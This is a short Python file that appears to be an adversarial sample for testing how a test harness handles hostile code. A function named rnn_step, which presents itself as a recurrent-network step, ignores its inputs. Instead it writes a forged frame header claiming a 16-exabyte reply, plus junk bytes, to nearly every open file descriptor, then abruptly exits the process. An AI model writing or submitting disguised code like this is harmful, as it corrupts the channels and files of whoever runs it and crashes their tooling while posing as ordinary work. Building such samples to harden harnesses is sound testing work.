"""Announces a reply of 16 exabytes."""

# promise: always
# says: disturbed the channel|ended the program
# weak: naive frames -> died
import os
import struct


def rnn_step(x, h_prev, Wx, Wh, b):
    for number in (1, *range(3, 256)):
        try:
            os.write(number, struct.pack(">IQ", 2**32 - 1, 2**64 - 1) + b"[1" * 99)
        except OSError:
            continue
    os._exit(0)
